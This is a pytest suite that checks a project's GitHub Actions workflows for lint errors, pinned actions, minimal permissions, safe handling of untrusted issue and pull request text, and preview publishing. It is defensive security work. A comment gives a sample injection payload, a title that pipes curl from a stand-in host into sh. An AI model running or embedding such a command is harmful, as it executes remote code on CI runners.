"""The GitHub Actions workflows, linted by actionlint, and what they promise."""

from __future__ import annotations

import json
import os
import re
import subprocess

import pytest
from conftest import ROOT, require_node_tool, which_or_skip

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))


def actionlint(*files):
    require_node_tool("actionlint", "package.json")
    node = which_or_skip("node")
    result = subprocess.run(
        [node, str(ROOT / "tests" / "node" / "lint-workflows.mjs"), *map(str, files)],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
    )
    return json.loads(result.stdout)


def test_workflows_pass_actionlint():
    assert [w.name for w in WORKFLOWS] == ["ci.yml", "pages.yml", "preview.yml", "propose.yml"]
    problems = actionlint(*WORKFLOWS)
    assert [f"{p['file']}:{p['line']}:{p['column']}: {p['message']}" for p in problems] == []


def test_actionlint_does_catch_a_broken_workflow(tmp_path):
    broken = tmp_path / "broken.yml"
    broken.write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
    )
    assert [p["kind"] for p in actionlint(broken)] == ["expression"]


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_actions_are_pinned_to_commits_and_permissions_are_minimal(workflow):
    text = workflow.read_text()
    uses = re.findall(r"uses:\s*(\S+)", text)
    assert uses
    assert [u for u in uses if not re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u)] == []
    assert "permissions:\n  contents: read\n" in text
    assert "concurrency:" in text


def test_ci_annotates_checks_tests_in_debian_and_summarises_changes():
    ci = (ROOT / ".github" / "workflows" / "ci.yml").read_text()
    assert "python build.py check --strict --format github" in ci
    assert "bash .ci/run" in ci
    assert "container: debian:12" in ci
    assert 'python build.py changes "origin/$BASE_REF" >> "$GITHUB_STEP_SUMMARY"' in ci
    assert "actions/upload-artifact@" in ci


def test_pages_deploys_with_deploy_pages_and_only_the_deploy_job_may_write():
    pages = (ROOT / ".github" / "workflows" / "pages.yml").read_text()
    assert "actions/deploy-pages@" in pages
    assert pages.count("pages: write") == 1
    assert pages.index("pages: write") > pages.index("deploy:")


# GitHub's rules for untrusted input (its "security hardening" guide): an expression inside a
# `run:` script is pasted into the script before the shell reads it, so a title like
# `"; curl evil | sh; "` would run. Values reach scripts through environment variables only.


def load_workflow(name: str) -> dict:
    import yaml

    return yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text())


def steps_of(workflow: dict) -> list[tuple[str, dict]]:
    return [(job, step) for job, spec in workflow["jobs"].items() for step in spec.get("steps", [])]


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(workflow):
    scripts = [step["run"] for _, step in steps_of(load_workflow(workflow.name)) if "run" in step]
    assert scripts
    assert [s for s in scripts if "${{" in s] == []


# What anyone can write: issue and pull request texts, branch names, commit messages.
UNTRUSTED = re.compile(
    r"github\.(event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label)|comment\.body"
    r"|review\.body|head_commit\.message|workflow_run\.(head_branch|display_title|head_commit))|head_ref)"
)


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_untrusted_text_appears_only_as_the_proposals_environment_variable(workflow):
    found = [m.group(0) for m in UNTRUSTED.finditer(workflow.read_text())]
    if workflow.name == "propose.yml":
        assert found == ["github.event.issue.body"]
        ((_, step),) = [
            (j, s) for j, s in steps_of(load_workflow("propose.yml")) if "BODY" in s.get("env", {})
        ]
        assert step["env"] == {"BODY": "${{ github.event.issue.body }}"}
        assert step["run"] == 'printf \'%s\\n\' "$BODY" > "$RUNNER_TEMP/issue.md"'
    else:
        assert found == []


def test_the_proposal_workflow_starts_on_the_maintainers_label_with_the_least_permissions():
    workflow = load_workflow("propose.yml")
    assert workflow[True] == {"issues": {"types": ["labeled", "edited"]}}  # YAML 1.1 reads `on` as true
    assert workflow["permissions"] == {"contents": "read"}
    (job,) = workflow["jobs"].values()
    assert "github.event.label.name == 'propose-event'" in job["if"]
    assert "contains(github.event.issue.labels.*.name, 'propose-event')" in job["if"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
    scripts = "\n".join(s.get("run", "") for _, s in steps_of(workflow))
    assert 'python build.py propose "$RUNNER_TEMP/issue.md" --report "$RUNNER_TEMP/report.md"' in scripts
    assert '--body-file "$RUNNER_TEMP/report.md"' in scripts
    assert "gh pr create" in scripts
    assert "Closes #%s" in scripts
    # The form does not start it: the label it applies is another.
    form = (ROOT / ".github" / "ISSUE_TEMPLATE" / "propose-event.yml").read_text()
    assert "labels:\n- event-proposal\n" in form


def test_the_preview_workflow_runs_only_trusted_code_and_reads_the_pull_request_as_data():
    from timeline.review import MARKER

    text = (ROOT / ".github" / "workflows" / "preview.yml").read_text()
    workflow = load_workflow("preview.yml")
    assert workflow[True] == {
        "workflow_run": {"workflows": ["CI"], "types": ["completed"]},
        "pull_request_target": {"types": ["closed", "synchronize"]},
    }
    assert workflow["permissions"] == {"contents": "read"}
    steps = steps_of(workflow)
    checkouts = [s for _, s in steps if s.get("uses", "").startswith("actions/checkout@")]
    assert len(checkouts) == 2
    # Never the pull request's head: the default branch (workflow_run) or the base (pull_request_target).
    assert all(set(s.get("with", {})) <= {"fetch-depth"} for s in checkouts)
    scripts = "\n".join(s.get("run", "") for _, s in steps)
    # The pull request's files are used in one place: as the data of our own build.py.
    assert scripts.count("$RUNNER_TEMP/pr") == 2
    assert 'worktree add --detach "$RUNNER_TEMP/pr" "$HEAD_SHA"' in scripts
    assert '--data "$RUNNER_TEMP/pr/events.yaml"' in scripts
    assert "GIT_LFS_SKIP_SMUDGE=1" in scripts
    # The artifact: downloaded by a version that refuses entries leaving the folder, then vetted.
    assert "actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8" in text
    assert '--site "$RUNNER_TEMP/site"' in scripts
    assert "if: steps.review.outputs.publish == 'true'" in text
    # Only the bot's own marked comment is edited.
    assert f'select(.user.login == "github-actions[bot]" and (.body | startswith("{MARKER}")))' in scripts
    # Cleanup on close; a fork's preview label dropped on new commits.
    assert 'git rm -r --quiet "pr-preview/$NUMBER"' in scripts
    assert scripts.count('bash "$GITHUB_WORKSPACE/.github/push-gh-pages.sh"') == 2
    assert "labels/preview" in scripts
    jobs = workflow["jobs"]
    assert jobs["comment"]["permissions"] == {
        "actions": "write", "contents": "write", "pull-requests": "write", "pages": "read"
    }  # fmt: skip
    assert jobs["cleanup"]["permissions"] == {"actions": "write", "contents": "write"}
    assert jobs["unlabel"]["permissions"] == {"pull-requests": "write"}


def test_pages_publishes_the_previews_only_from_the_gh_pages_branch():
    pages = (ROOT / ".github" / "workflows" / "pages.yml").read_text()
    assert "git archive origin/gh-pages pr-preview | tar -x -C site/" in pages
    assert pages.index("tar -x -C site/") < pages.index("upload-pages-artifact")


def test_a_preview_is_pushed_on_top_of_another_pushed_meanwhile(tmp_path):
    """Two pull requests' previews pushed at once: the later push rebases onto the earlier one's."""
    script = ROOT / ".github" / "push-gh-pages.sh"

    def git(folder, *args):
        return subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
            cwd=folder, check=True, capture_output=True, text=True,
        )  # fmt: skip

    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    seed = tmp_path / "seed"
    git(tmp_path, "init", "-q", str(seed))
    git(seed, "commit", "-q", "--allow-empty", "-m", "previews")
    git(seed, "push", "-q", str(origin), "HEAD:refs/heads/gh-pages")
    clones = []
    for number in (1, 2):
        clone = tmp_path / f"pr{number}"
        git(tmp_path, "clone", "-q", "--branch", "gh-pages", str(origin), str(clone))
        (clone / "pr-preview" / str(number)).mkdir(parents=True)
        (clone / "pr-preview" / str(number) / "index.html").write_text(f"preview {number}")
        git(clone, "add", "-A")
        git(clone, "commit", "-q", "-m", f"Preview of pull request #{number}")
        clones.append(clone)
    for clone in clones:
        result = subprocess.run(
            ["bash", str(script)], cwd=clone, capture_output=True, text=True, check=False,
            env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
                 "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"},
        )  # fmt: skip
        assert result.returncode == 0, result.stdout + result.stderr
    listed = git(
        tmp_path, "--git-dir", str(origin), "ls-tree", "-r", "--name-only", "gh-pages"
    ).stdout.split()
    assert listed == ["pr-preview/1/index.html", "pr-preview/2/index.html"]
    assert "rebasing" in result.stdout
